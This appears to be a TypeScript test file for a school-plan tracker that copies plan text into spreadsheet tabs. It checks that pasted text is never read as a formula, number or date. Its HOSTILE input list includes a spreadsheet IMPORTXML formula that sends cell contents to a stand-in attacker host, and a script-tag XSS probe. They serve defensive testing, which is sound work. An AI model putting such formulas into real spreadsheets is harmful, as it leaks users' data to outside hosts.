import fc from 'fast-check';
import type { Goal } from '../../src/core/plan/plan.ts';
import { words } from '../core/tracker/a-plan.ts';
import { goalId, TestDistrict } from '../support/bundle-district.ts';
import { anActivity, fullGoal, planHtml } from '../support/bundle-plans.ts';

/** What Sheets would take for something else, and what people paste. */
const HOSTILE = [
  '=IMPORTXML("https://evil.example/?x="&A1, "//a")',
  '=1+1',
  '+1',
  '-5',
  '@x',
  '3-5',
  '1/2',
  '10%',
  '$5.00',
  '1e3',
  '12:30',
  'May 2026',
  '2026-05-01',
  'TRUE',
  '007',
  "'quoted",
  "''twice",
  '#REF!',
  '<script>alert(1)</script>',
  '&amp; "and" &lt;',
  'Family: 👩‍👩‍👧, café, ñ, 日本語, עברית',
  'x'.repeat(3000),
];

/** HTML has no line breaks, tabs or doubled spaces in a cell, so these are typed. */
const TYPED = ['One line\nand another', 'left\tright', 'a  b'];

/** Columns that show words of the plan as they stand, by tab. */
const TEXT_COLUMNS = {
  Goals: [
    'SMART goal',
    'Student group',
    'Grades',
    'Content area',
    'Instrument',
    'Metric',
    'Initiative',
    'Baseline date',
    'Target date',
  ],
  Activities: [
    'Activity',
    'Lead',
    'Start',
    'End',
    'How often',
    'MTSS tier',
    'Adult measure',
    'Student measure',
  ],
  Resources: ['Fund', 'Purpose'],
  Progress: ['Date', 'Status', 'Note'],
} as const;
const TABS = Object.keys(TEXT_COLUMNS) as (keyof typeof TEXT_COLUMNS)[];

/** A goal that says one text wherever it can. */
function goalSaying(id: string, text: string): Goal {
  const activity = { ...anActivity(text), lead: text, start: text, end: text, howOften: text };
  return fullGoal(id, {
    initiative: { text, id: null },
    statement: text,
    studentGroup: text,
    grades: text,
    contentArea: text,
    instrument: text,
    metric: text,
    baselineDate: text,
    targetDate: text,
    activities: [{ ...activity, mtssTier: text, adultMeasure: text, studentMeasure: text }],
    resources: [{ fund: text, amount: words('3-5'), fte: words('1/2'), purpose: text }],
    progress: [{ date: text, value: words('=2+2'), status: text, note: text }],
  });
}

/** Where a goal's rows show something else than this text: tab, column and what stands there. */
const shownOtherwise = (district: TestDistrict, id: string, text: string): unknown[] =>
  TABS.flatMap((tab) => {
    const rows = district.rows(tab).filter((row) => row['Goal ID'] === id);
    const wrong = rows.flatMap((row) =>
      TEXT_COLUMNS[tab].flatMap((column) => (row[column] === text ? [] : [[tab, column, row[column]]])),
    );
    return rows.length === 1 ? wrong : [[tab, `${rows.length} rows`]];
  });

const formulasIn = (district: TestDistrict) =>
  district
    .state()
    .tabs.filter(({ name }) => name !== 'Dashboard')
    .flatMap(({ name, rows }) =>
      rows.flat().flatMap((cell) => (cell?.formula === undefined ? [] : [`${name}: ${cell.formula}`])),
    );

describe('a text of a plan', () => {
  const texts = [...HOSTILE, ...TYPED].map((text, index) => ({
    text,
    name: JSON.stringify(text.slice(0, 40)),
    id: goalId(0, index),
  }));
  const planOf = (school: string, says: typeof texts) => ({
    school,
    html: planHtml(
      school,
      says.map(({ text, id }) => goalSaying(id, oneLine(text))),
    ),
  });
  const typed = texts.slice(HOSTILE.length);
  const district = new TestDistrict([
    planOf('Maple', texts.slice(0, HOSTILE.length)),
    planOf('Birch', typed),
  ]);
  typeOver(typed.map(({ text }) => text));
  district.rollUp();

  test.each(texts)('comes back from the tracker as it went in: $name', ({ text, id }) => {
    expect(shownOtherwise(district, id, text)).toEqual([]);
  });

  test('never becomes a formula, a number or a day', () => {
    expect(formulasIn(district)).toEqual([]);
    const values = (tab: string, column: string) => new Set(district.rows(tab).map((row) => row[column]));
    expect(values('Resources', 'Amount')).toEqual(new Set(['3-5']));
    expect(values('Resources', 'FTE')).toEqual(new Set(['1/2']));
    expect(values('Progress', 'Value')).toEqual(new Set(['=2+2']));
    expect(district.meteredRollUp().cost.byKind).not.toHaveProperty('rangeWrite');
  });

  function oneLine(text: string): string {
    return text.replace(/\n|\t| {2}/g, ' ');
  }

  /** Types each text where it stands in one line. */
  function typeOver(wanted: readonly string[]): void {
    const person = district.plan('Birch');
    person.tables().forEach((rows, table) => {
      rows.forEach((cells, row) => {
        cells.forEach((cell, column) => {
          const text = wanted.find((each) => oneLine(each) === cell);
          if (text !== undefined) person.typeInCell([table, row, column], text);
        });
      });
    });
  }
});

test('any text comes back as it went in, whoever typed it', () => {
  const id = goalId(0, 0);
  const district = new TestDistrict([{ school: 'Maple', html: planHtml('Maple', [fullGoal(id)]) }]);
  const [statement, activity, note] = ['SMART goal', 'Activity', 'Note'] as const;
  const person = district.plan('Maple');
  const places = person.tables().flatMap(([headings = []], table) => {
    const column = headings.findIndex((heading) => heading === activity || heading === note);
    return column < 0 ? [] : [[table, 1, column] as const];
  });
  const text = fc
    .tuple(fc.constantFrom('', '=', '+', '-', "'", '@', '1/'), fc.string({ unit: 'grapheme', maxLength: 40 }))
    .map((parts) => parts.join('').trim())
    .filter((each) => each !== '');
  fc.assert(
    fc.property(text, (typed) => {
      person.setLabelled(statement, typed);
      for (const place of places) person.typeInCell(place, typed);
      district.rollUp();
      const last = (tab: string) => district.rows(tab).filter((row) => row['Row status'] === 'In the plan');
      expect(district.rows('Goals')[0]?.[statement]).toBe(typed);
      expect(last('Activities').map((row) => row[activity])).toContain(typed);
      expect(last('Progress').map((row) => row[note])).toContain(typed);
    }),
    { numRuns: 30 },
  );
  expect(formulasIn(district)).toEqual([]);
});
